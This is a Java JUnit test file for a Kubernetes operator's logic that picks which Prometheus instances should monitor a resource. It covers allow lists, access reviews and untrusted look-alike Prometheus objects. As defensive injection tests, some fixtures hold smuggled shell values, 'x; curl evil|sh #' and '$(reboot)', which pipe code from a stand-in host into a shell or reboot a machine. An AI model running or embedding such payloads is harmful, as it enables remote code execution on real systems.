package dev.monitored.operator.decision;

import static dev.monitored.operator.plan.Clusters.EVERYTHING;
import static dev.monitored.operator.plan.Clusters.aMonitored;
import static dev.monitored.operator.plan.Clusters.agent;
import static dev.monitored.operator.plan.Clusters.labels;
import static dev.monitored.operator.plan.Clusters.plain;
import static dev.monitored.operator.plan.Clusters.selector;
import static dev.monitored.operator.plan.Clusters.wants;
import static dev.monitored.operator.plan.Trials.as;
import static dev.monitored.operator.plan.Trials.everything;
import static dev.monitored.operator.plan.Trials.prometheus;
import static dev.monitored.operator.plan.Trials.remembering;
import static dev.monitored.operator.plan.Trials.stack;
import static dev.monitored.operator.plan.Trials.with;
import static org.assertj.core.api.Assertions.assertThat;

import dev.monitored.operator.Entries;
import dev.monitored.operator.api.Monitored;
import dev.monitored.operator.finding.Command;
import dev.monitored.operator.finding.Finding;
import dev.monitored.operator.plan.Choice;
import dev.monitored.operator.plan.MonitorPlan;
import dev.monitored.operator.plan.Plan;
import dev.monitored.operator.plan.ScrapePools;
import dev.monitored.operator.plan.Trials;
import dev.monitored.operator.prometheus.Discoverer;
import dev.monitored.operator.prometheus.KnownPrometheus;
import dev.monitored.operator.prometheus.OperatedPrometheus;
import dev.monitored.operator.prometheus.PrometheusPolicy.Entry;
import dev.monitored.operator.snapshot.AccessReview;
import dev.monitored.operator.snapshot.AccessReview.Question;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Which Prometheus is intended, sentence by sentence. */
class DecisionTest {
  private static final OperatedPrometheus KPS = stack("monitoring", "kps");
  private static final OperatedPrometheus OTHER = stack("observability", "other");
  private static final OperatedPrometheus K8S = everything("monitoring", "k8s");
  private static final KnownPrometheus BUNDLED = plain("bundled");

  private static final OperatedPrometheus COPIED_LABELS =
      prometheus("evil", "aaa", labels("release", "kps"), EVERYTHING);
  private static final OperatedPrometheus COPIED_NAME = stack("evil", "kps");
  private static final OperatedPrometheus OWN_CREDENTIALS =
      as("evil", "own", EVERYTHING, EVERYTHING, null);
  private static final OperatedPrometheus INJECTING =
      as(
          "evil",
          "shell",
          EVERYTHING,
          EVERYTHING,
          new Discoverer("evil", "x; curl evil|sh #", false));

  @Nested
  class Allowed {
    @Test
    void nothingOutsideTheListIsEverIntended() {
      var cluster =
          with(KPS, OTHER).mayDiscover(KPS, OTHER).allow(new Entry("observability", null));
      var named = aMonitored("prometheus: {names: [monitoring/kps]}");

      assertThat(chosen(cluster.plan(aMonitored("")))).containsExactly("observability/other");
      assertThat(chosen(cluster.plan(ofRelease("kps")))).isEmpty();
      assertThat(chosen(cluster.plan(named))).isEmpty();
      assertThat(reason(cluster.plan(named))).isEqualTo("PrometheusForbidden");
    }

    @Test
    void aNameInTheListIsThatOfOneObject() {
      var cluster = with(KPS, stack("monitoring", "two")).allow(new Entry("monitoring", "two"));

      assertThat(chosen(cluster.plan(aMonitored("")))).containsExactly("monitoring/two");
    }

    @Test
    void labelsAreNoAllowList() {
      var selecting = aMonitored("prometheus: {selector: {matchLabels: {tier: kps}}}");

      var plan = with(COPIED_NAME).allow(new Entry("monitoring", null)).plan(selecting);

      assertThat(chosen(plan)).isEmpty();
      assertThat(reason(plan)).isEqualTo("NoPrometheusFound");
    }
  }

  @Nested
  class Trusted {
    @Test
    void everyObjectOfTheListIsWithoutAReview() {
      var listed = as("monitoring", "own", EVERYTHING, EVERYTHING, null);
      var cluster = with(listed).allow(new Entry("monitoring", null));

      assertThat(DiscoveryRights.needed(aMonitored(""), cluster.facts(aMonitored("")), Set.of()))
          .isEmpty();
      assertThat(chosen(cluster.plan(aMonitored("")))).containsExactly("monitoring/own");
    }

    @Test
    void withoutAListWhoeverMayFindTargetsHere() {
      assertThat(chosen(with(KPS).mayDiscover(KPS).plan(aMonitored("")))).hasSize(1);
      assertThat(chosen(with(KPS).plan(aMonitored("")))).isEmpty();
    }

    @Test
    void anObjectWithAnApiserverConfigNeedsTheList() {
      var plan = with(OWN_CREDENTIALS).anybodyMayDiscover().plan(aMonitored(""));

      assertThat(chosen(plan)).isEmpty();
      assertThat(reason(plan)).isEqualTo("PrometheusForbidden");
      assertThat(message(plan)).contains("apiserverConfig").contains("prometheuses.allow");
    }

    @Test
    void whereAServiceAccountThatDoesNotExistMayDoTheSameTheListIsNeeded() {
      var plan = with(KPS).anybodyMayDiscover().plan(aMonitored(""));

      assertThat(chosen(plan)).isEmpty();
      assertThat(reason(plan)).isEqualTo("PrometheusForbidden");
      assertThat(message(plan)).contains("every service account").contains("prometheuses.allow");
    }

    /** Among many teams' own, the two that select everything were asked about too late. */
    @Test
    void thoseThatCouldScrapeItAreReviewedFirst() {
      var elsewhere = prometheus("aaa", "elsewhere", null, null);
      var monitored = aMonitored("");

      var questions =
          DiscoveryRights.needed(monitored, with(elsewhere, K8S).facts(monitored), Set.of());

      assertThat(questions.stream().map(Question::accountNamespace).toList())
          .containsSubsequence("monitoring", "aaa");
    }

    @Test
    void aReviewThatFailsChangesNothing() {
      var cluster = with(KPS, OTHER).mayDiscover(OTHER).reviewsFail(KPS);

      var plan = cluster.plan(aMonitored(""));

      assertThat(chosen(plan)).isEmpty();
      assertThat(reason(plan)).isEqualTo("MissingPermission");
      assertThat(plan.isComplete()).isFalse();
      assertThat(chosen(cluster.plan(ofRelease("other")))).containsExactly("observability/other");
    }
  }

  /** What one sees of a stranger with a thousand service accounts, until all are reviewed. */
  @Nested
  class NotReviewedYet {
    private final Trials cluster =
        with(KPS, OTHER, K8S).mayDiscover(KPS, OTHER).notReviewedYet(K8S);

    @Test
    void changesNothingForOneThatHasItsPrometheus() {
      var before = with(KPS).mayDiscover(KPS).plan(aMonitored(""));
      var monitored = remembering(aMonitored(""), before);

      var after = cluster.plan(monitored);

      assertThat(chosen(after)).containsExactly("monitoring/kps");
      assertThat(objects(after)).isEqualTo(objects(before));
      assertThat(after.problem()).isNull();
      assertThat(after.waitsForReviews()).isFalse();
      assertThat(after.reviewsGoOn()).isTrue();
      assertThat(before.reviewsGoOn()).isFalse();
      assertThat(after.choices()).noneMatch(choice -> choice.standing() == Standing.JOINING);
    }

    @Test
    void keepsNobodyFromThoseThatSelectByTheAuthorsLabelsOrAreNamed() {
      var named = aMonitored("prometheus: {names: [observability/other]}");

      assertThat(chosen(cluster.plan(ofRelease("other")))).containsExactly("observability/other");
      assertThat(chosen(cluster.plan(named))).containsExactly("observability/other");
      assertThat(cluster.plan(named).problem()).isNull();
    }

    @Test
    void leavesOpenWhatItMayDecide() {
      var single = with(KPS, K8S).mayDiscover(KPS).notReviewedYet(K8S);

      for (var plan :
          List.of(
              single.plan(aMonitored("")),
              single.byDefault("monitoring", "kps").plan(aMonitored("")),
              cluster.plan(aMonitored("prometheus: {names: [monitoring/k8s]}")))) {
        assertThat(chosen(plan)).isEmpty();
        assertThat(reason(plan)).isEqualTo("Progressing");
        assertThat(plan.waitsForReviews()).isTrue();
        assertThat(plan.isComplete()).isFalse();
      }
    }

    @Test
    void isSaidInTheSameWordsWhoeverComesNext() {
      var first = with(KPS, OTHER).notReviewedYet(KPS, OTHER).plan(aMonitored(""));
      var second = with(KPS, OTHER).notReviewedYet(OTHER).plan(aMonitored(""));

      assertThat(message(first)).isEqualTo(message(second)).contains("team-a");
    }
  }

  @Nested
  class Chosen {
    @Test
    void firstTheOnesThatAreNamed() {
      var cluster = with(KPS, OTHER, K8S).mayDiscover(KPS, OTHER, K8S);
      var named = aMonitored("prometheus: {names: [observability/other]}");
      named.getMetadata().setLabels(Map.of());

      assertThat(chosen(cluster.plan(named))).containsExactly("observability/other");
    }

    @Test
    void orMatchedByTheSelectorAllOfThem() {
      var cluster = with(KPS, OTHER, K8S).mayDiscover(KPS, OTHER);
      var matching =
          aMonitored(
              "prometheus: {selector: {matchExpressions: [{key: tier, operator: In,"
                  + " values: [kps, other, k8s]}]}}");

      assertThat(chosen(cluster.plan(matching)))
          .containsExactly("monitoring/kps", "observability/other");
      assertThat(cluster.plan(matching).problem()).isNull();
    }

    @Test
    void whatIsWrongWithANameIsReportedAndTheOthersAreServed() {
      var cluster = with(KPS, OTHER, BUNDLED).mayDiscover(KPS);

      var missing = cluster.plan(aMonitored("prometheus: {names: [monitoring/kps, a/b]}"));
      assertThat(chosen(missing)).containsExactly("monitoring/kps", "monitored-system/bundled");
      assertThat(reason(missing)).isEqualTo("NoPrometheusFound");
      assertThat(message(missing)).contains("a/b");

      var forbidden =
          cluster.plan(aMonitored("prometheus: {names: [monitoring/kps, observability/other]}"));
      assertThat(reason(forbidden)).isEqualTo("PrometheusForbidden");
      assertThat(chosen(forbidden)).contains("monitoring/kps");
    }

    @Test
    void aNamedOneThatCannotBeSatisfiedIsChosenAndSaysWhy() {
      var deaf = prometheus("monitoring", "deaf", null, null);

      var plan =
          with(KPS, deaf)
              .mayDiscover(KPS, deaf)
              .plan(aMonitored("prometheus: {names: [monitoring/deaf]}"));

      assertThat(chosen(plan)).containsExactly("monitoring/deaf");
      assertThat(choice(plan, deaf).scrape())
          .extracting(Finding::reason)
          .isEqualTo("SelectorSelectsNothing");
    }

    @Test
    void thenThoseThatTheStatusShowsAsChosen() {
      var cluster = with(KPS).mayDiscover(KPS);
      var monitored = remembering(aMonitored(""), cluster.plan(aMonitored("")));

      assertThat(chosen(cluster.and(K8S, OTHER).mayDiscover(K8S, OTHER).plan(monitored)))
          .containsExactly("monitoring/kps");
    }

    @Test
    void butOnlyWhileTheyExistAndCanBeSatisfied() {
      var monitored =
          remembering(ofRelease("kps"), with(KPS).mayDiscover(KPS).plan(ofRelease("kps")));

      assertThat(chosen(with(OTHER).mayDiscover(OTHER).plan(monitored))).isEmpty();
      monitored.getMetadata().setLabels(Map.of("release", "other"));
      assertThat(chosen(with(KPS, OTHER).mayDiscover(KPS, OTHER).plan(monitored)))
          .containsExactly("observability/other");
    }

    @Test
    void theStatusOfAnOlderOperatorIsReadToo() {
      var old = Entries.of(KPS.ref().toString(), null, "ServiceMonitor", null);

      var plan = with(KPS, OTHER).plan(remembering(aMonitored(""), List.of(old)));

      assertThat(chosen(plan)).containsExactly("monitoring/kps");
      assertThat(plan.monitors()).extracting(MonitorPlan::name).containsExactly("shop");
    }

    @Test
    void thenAllThatSelectTheObjectByTheAuthorsLabels() {
      var cluster = with(KPS, OTHER, K8S).mayDiscover(KPS, OTHER, K8S);

      assertThat(chosen(cluster.plan(ofRelease("other"))))
          .containsExactly("monitoring/k8s", "observability/other");
    }

    @Test
    void thenTheOnlyOneWhoseLabelsCanBeSolved() {
      var deaf = prometheus("monitoring", "deaf", null, null);

      assertThat(chosen(with(deaf, OTHER).mayDiscover(deaf, OTHER).plan(aMonitored(""))))
          .containsExactly("observability/other");
    }

    @Test
    void thenTheDefaultOfTheChart() {
      var cluster = with(KPS, OTHER).mayDiscover(KPS, OTHER).byDefault("monitoring", "kps");

      assertThat(chosen(cluster.plan(aMonitored("")))).containsExactly("monitoring/kps");
    }

    @Test
    void noMoreThanTheStatusCanRemember() {
      var many =
          IntStream.range(0, 12)
              .mapToObj(index -> everything("monitoring", "p" + index))
              .toArray(OperatedPrometheus[]::new);

      assertThat(chosen(with(many).mayDiscover(many).plan(aMonitored("")))).hasSize(10);
    }
  }

  @Nested
  class NoneChosen {
    @Test
    void severalThatCouldBeSatisfiedAreAmbiguousWithThePatchForEach() {
      var plan = with(KPS, OTHER).mayDiscover(KPS, OTHER).plan(aMonitored(""));

      assertThat(reason(plan)).isEqualTo("AmbiguousPrometheus");
      assertThat(plan.monitors()).isEmpty();
      assertThat(commands(plan))
          .containsExactly(
              "kubectl patch monitored shop --namespace team-a --type merge --patch"
                  + " '{\"spec\":{\"prometheus\":{\"names\":[\"monitoring/kps\"]}}}'",
              "kubectl patch monitored shop --namespace team-a --type merge --patch"
                  + " '{\"spec\":{\"prometheus\":{\"names\":[\"observability/other\"]}}}'");
      assertThat(message(plan)).contains("'; or (author): kubectl");
    }

    @Test
    void aTrustedOneThatCannotBeSatisfiedSaysWhy() {
      var plan = with(KPS).mayDiscover(KPS).plan(ofRelease("mine"));

      assertThat(reason(plan)).isEqualTo("LabelMismatch");
    }

    @Test
    void ifAllFailTheReviewRoleAndRoleBindingForThreeAtMostAreGiven() {
      var four =
          IntStream.range(0, 4)
              .mapToObj(index -> stack("monitoring", "p" + index))
              .toArray(OperatedPrometheus[]::new);

      var plan = with(four).plan(aMonitored(""));

      assertThat(reason(plan)).isEqualTo("PrometheusForbidden");
      assertThat(commands(plan)).hasSize(3);
      assertThat(commands(plan).getFirst())
          .contains("kubectl create role prometheus.monitoring.p0 --namespace team-a")
          .contains("--resource=services,endpoints,pods")
          .contains("kubectl create rolebinding prometheus.monitoring.p0 --namespace team-a")
          .contains("--serviceaccount=monitoring:p0");
      assertThat(message(plan)).contains("and 1 more");
      assertThat(plan.waitsForRights()).isTrue();
    }

    @Test
    void ifThereIsNoneThatIsSaid() {
      assertThat(reason(with().plan(aMonitored("")))).isEqualTo("NoPrometheusFound");
    }

    @Test
    void withAPlainOneIntendedNothingIsWrong() {
      var plan = with(KPS, OTHER, BUNDLED).mayDiscover(KPS, OTHER).plan(aMonitored(""));

      assertThat(chosen(plan)).containsExactly("monitored-system/bundled");
      assertThat(plan.problem()).isNull();
    }
  }

  @Nested
  class PlainOnes {
    @Test
    void areIntendedBesideTheOthersUnlessViaOrSelectorExcludesThem() {
      var cluster = with(KPS, BUNDLED).mayDiscover(KPS);

      assertThat(chosen(cluster.plan(aMonitored(""))))
          .containsExactly("monitoring/kps", "monitored-system/bundled");
      assertThat(chosen(cluster.plan(aMonitored("prometheus: {names: [monitoring/kps]}"))))
          .containsExactly("monitoring/kps", "monitored-system/bundled");
      assertThat(chosen(cluster.plan(aMonitored("prometheus: {via: ServiceMonitor}"))))
          .containsExactly("monitoring/kps");
      assertThat(
              chosen(
                  cluster.plan(aMonitored("prometheus: {selector: {matchLabels: {tier: kps}}}"))))
          .containsExactly("monitoring/kps");
    }

    @Test
    void doNotCountWhereOneIsToBeTheOnlyOne() {
      assertThat(chosen(with(KPS, BUNDLED).mayDiscover(KPS).plan(aMonitored("")))).hasSize(2);
    }
  }

  /** What is there at first, which of it is trusted, and what is chosen. */
  static Stream<Arguments> clusters() {
    var team = prometheus("team-b", "team", labels("team", "b"), EVERYTHING);
    var pods = agent("pods", null, EVERYTHING);
    return Stream.of(
        Arguments.of(
            "bundled + kube-prometheus-stack",
            with(KPS, BUNDLED).mayDiscover(KPS),
            List.of("monitoring/kps", "monitored-system/bundled")),
        Arguments.of(
            "two kube-prometheus-stacks", with(KPS, OTHER).mayDiscover(KPS, OTHER), List.of()),
        Arguments.of(
            "kube-prometheus-stack beside a team's Prometheus with rights in its own namespace",
            with(KPS, team).mayDiscover(KPS),
            List.of("monitoring/kps")),
        Arguments.of("kube-prometheus, before it is given rights here", with(K8S), List.of()),
        Arguments.of("kube-prometheus", with(K8S).mayDiscover(K8S), List.of("monitoring/k8s")),
        Arguments.of("agent only", with(pods).mayDiscover(pods), List.of("monitoring/pods")),
        Arguments.of(
            "a stranger with copied labels",
            with(KPS, COPIED_LABELS).mayDiscover(KPS),
            List.of("monitoring/kps")),
        Arguments.of(
            "a stranger with a copied name",
            with(KPS, COPIED_NAME).mayDiscover(KPS),
            List.of("monitoring/kps")),
        Arguments.of(
            "a stranger with an apiserverConfig",
            with(KPS, OWN_CREDENTIALS).mayDiscover(KPS),
            List.of("monitoring/kps")),
        Arguments.of(
            "a stranger whose service account is a shell command",
            with(KPS, INJECTING).mayDiscover(KPS),
            List.of("monitoring/kps")));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("clusters")
  void realisticClustersAreUnderstood(String name, Trials cluster, List<String> expected) {
    assertThat(chosen(cluster.plan(aMonitored("")))).as(name).isEqualTo(expected);
  }

  /** Those without rights, and those that are trusted but have no Pod or answer slowly. */
  static Stream<Arguments> newcomers() {
    var silent = stack("platform", "silent");
    var nosy = prometheus("platform", "nosy", selector(wants("quiet", "NotIn", "yes")), EVERYTHING);
    var copy = prometheus("platform", "copy", labels("release", "kps"), labels("release", "kps"));
    return Stream.of(
            COPIED_LABELS, COPIED_NAME, OWN_CREDENTIALS, INJECTING, OTHER, K8S, silent, nosy, copy)
        .flatMap(newcomer ->
            Stream.of(
                Arguments.of(newcomer.ref().toString(), newcomer, false),
                Arguments.of(newcomer.ref() + ", trusted", newcomer, true)));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("newcomers")
  void b2ANewcomerChangesNothing(String name, OperatedPrometheus newcomer, boolean isTrusted) {
    var before = with(KPS).mayDiscover(KPS).plan(aMonitored(""));
    var monitored = remembering(aMonitored(""), before);
    var cluster = with(newcomer, KPS).mayDiscover(KPS);

    var after = (isTrusted ? cluster.mayDiscover(newcomer) : cluster).plan(monitored);

    assertThat(chosen(after)).as(name).containsExactly("monitoring/kps");
    assertThat(after.problem()).isNull();
    assertThat(after.isComplete()).isTrue();
    assertThat(objects(after)).isEqualTo(objects(before));
    assertThat(choice(after, KPS).scrape()).isNull();
  }

  @Nested
  class Newcomers {
    private final Monitored monitored =
        remembering(aMonitored(""), with(KPS).mayDiscover(KPS).plan(aMonitored("")));

    @Test
    void areAskedIfTheySelectByTheAuthorsLabelsAndAreTrusted() {
      var plan = with(KPS, K8S).mayDiscover(KPS, K8S).plan(monitored);

      assertThat(choice(plan, K8S).standing()).isEqualTo(Standing.JOINING);
      assertThat(choice(plan, K8S).asked()).isTrue();
      assertThat(choice(plan, K8S).intended()).isFalse();
      assertThat(ScrapePools.expected(monitored, plan, K8S.ref()))
          .containsExactly("serviceMonitor/team-a/shop/0");
      assertThat(with(KPS, K8S).mayDiscover(KPS).plan(monitored).choices())
          .noneMatch(choice -> choice.standing() == Standing.JOINING);
    }

    @Test
    void areNotAskedIfTheySelectByLabelsThatWereSolvedForAnother() {
      var copy = prometheus("platform", "copy", labels("release", "kps"), null);

      var plan = with(KPS, copy).mayDiscover(KPS, copy).plan(monitored);

      assertThat(choice(plan, copy).asked()).isFalse();
      assertThat(choice(plan, copy).pickedUp())
          .extracting(Finding::reason)
          .isEqualTo("PickedUpByOthers");
    }

    @Test
    void areChosenWhenTheStatusSaysSo() {
      var joined = with(KPS, K8S).mayDiscover(KPS, K8S).plan(monitored);
      var entries = new ArrayList<>(Objects.requireNonNull(monitored.getStatus()).prometheuses());
      entries.add(Entries.of(K8S.ref().toString(), true, "ServiceMonitor", "shop"));

      var after = with(KPS, K8S).mayDiscover(KPS, K8S).plan(remembering(aMonitored(""), entries));

      assertThat(chosen(after)).containsExactly("monitoring/kps", "monitoring/k8s");
      assertThat(after.monitors()).hasSize(1);
      assertThat(after.monitors().getFirst().labels())
          .isEqualTo(joined.monitors().getFirst().labels());
    }
  }

  @Nested
  class Remembered {
    private final Monitored monitored =
        remembering(aMonitored(""), with(KPS).mayDiscover(KPS).plan(aMonitored("")));

    @Test
    void oneThatLosesARightStaysAndItsMonitorToo() {
      var plan = with(KPS).plan(monitored);

      assertThat(chosen(plan)).containsExactly("monitoring/kps");
      assertThat(plan.monitors()).hasSize(1);
    }

    @Test
    void theMissingRightIsReportedOnceItsPoolIsEmpty() {
      var empty = Set.of(KPS.ref());
      var facts = with(KPS).facts(monitored);
      var questions = DiscoveryRights.needed(monitored, facts, empty);

      assertThat(DiscoveryRights.needed(monitored, facts, Set.of())).isEmpty();
      assertThat(questions).hasSize(1);
      var denied = AccessReview.denied(questions.getFirst(), "watch endpoints");
      assertThat(DiscoveryRights.missing(monitored, facts.with(List.of(denied)), empty))
          .hasEntrySatisfying(
              KPS.ref(),
              finding ->
                  assertThat(finding.message())
                      .contains("is not allowed to watch endpoints in namespace team-a")
                      .contains("service account monitoring:kps"));
    }

    @Test
    void oneThatIsOutOfSightStaysChosenAndNoOtherTakesItsPlace() {
      var plan = with(OTHER).mayDiscover(OTHER).unseen().plan(monitored);

      assertThat(chosen(plan)).containsExactly("monitoring/kps");
      assertThat(plan.isComplete()).isFalse();
      assertThat(chosen(with(KPS, OTHER).plan(remembering(aMonitored(""), plan))))
          .containsExactly("monitoring/kps");
    }

    @Test
    void aTimeoutThatOnePrometheusRefusesDoesNotLoseTheChoice() {
      var slow = aMonitored("scrape: {timeout: 45s}");
      slow.setStatus(monitored.getStatus());

      var plan = with(KPS, OTHER).mayDiscover(OTHER).plan(slow);

      assertThat(chosen(with(KPS, OTHER).mayDiscover(OTHER).plan(remembering(slow, plan))))
          .containsExactly("monitoring/kps");
    }
  }

  @Test
  void b2TextOfAnotherPartyEntersNoCommandAndAMessageOnlyInQuotes() {
    var key = prometheus("evil", "key", labels("x; curl evil|sh #", "y"), labels("a", "$(reboot)"));

    for (var cluster : List.of(with(INJECTING), with(key).mayDiscover(key), with(INJECTING, K8S))) {
      var plan = cluster.plan(aMonitored(""));

      assertThat(chosen(plan)).isEmpty();
      assertThat(commands(plan)).noneMatch(command -> command.contains("evil|sh"));
      assertThat(message(plan).replaceAll("\"[^\"]*\"", "")).doesNotContain("curl");
    }
    assertThat(message(with(INJECTING).plan(aMonitored("")))).contains("\"x; curl evil|sh #\"");
  }

  private static Monitored ofRelease(String release) {
    var monitored = aMonitored("");
    monitored.getMetadata().setLabels(Map.of("release", release));
    return monitored;
  }

  private static List<String> chosen(Plan plan) {
    return plan.choices().stream()
        .filter(Choice::intended)
        .map(choice -> choice.ref().qualifiedName())
        .toList();
  }

  private static Choice choice(Plan plan, KnownPrometheus prometheus) {
    return plan.choices().stream()
        .filter(choice -> choice.ref().equals(prometheus.ref()))
        .findFirst()
        .orElseThrow();
  }

  /** What is written, without who else picks it up. */
  private static List<Object> objects(Plan plan) {
    return Stream.<Object>concat(
            plan.monitors().stream()
                .map(one -> List.of(one.name(), one.route(), one.labels(), one.selectedBy())),
            plan.rules().stream().map(one -> List.of(one.name(), one.labels(), one.loadedBy())))
        .toList();
  }

  private static String reason(Plan plan) {
    return Objects.requireNonNull(plan.problem()).reason();
  }

  private static String message(Plan plan) {
    return Objects.requireNonNull(plan.problem()).message();
  }

  private static List<String> commands(Plan plan) {
    return Objects.requireNonNull(plan.problem()).commands().stream()
        .map(Command::toString)
        .toList();
  }
}
